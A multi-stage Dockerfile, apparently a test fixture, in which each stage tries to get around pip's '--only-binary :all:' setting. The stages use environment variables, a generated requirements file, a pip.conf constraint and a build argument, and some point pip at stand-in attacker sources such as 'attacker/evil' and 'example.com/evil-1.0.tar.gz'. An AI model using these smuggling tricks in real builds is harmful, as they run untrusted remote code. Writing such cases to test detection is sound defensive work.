FROM python:3.12 AS a
ENV PIP_EDITABLE=git+https://github.com/attacker/evil#egg=evil
RUN pip install --only-binary :all: flask
FROM python:3.12 AS b
RUN printf 'evil @ https://example.com/evil-1.0.tar.gz\n' > /tmp/r.txt
ENV PIP_REQUIREMENT=/tmp/r.txt
RUN pip install --only-binary :all: flask
FROM python:3.12 AS c
RUN printf '[install]\nconstraint = /tmp/c.txt\n' > /etc/pip.conf && printf -- '--no-binary :all:\n' > /tmp/c.txt
RUN pip install --only-binary :all: flask
FROM python:3.12 AS d
RUN echo 'cython<3' > /tmp/c.txt && PIP_CONSTRAINT=/tmp/c.txt pip install --only-binary :all: pyyaml==6.0.1
FROM python:3.12 AS e
ENV PIP_REQUIREMENT=
RUN pip install --only-binary :all: flask
FROM python:3.12 AS f
ARG REQS
RUN PIP_REQUIREMENT=$REQS pip install --only-binary :all: flask
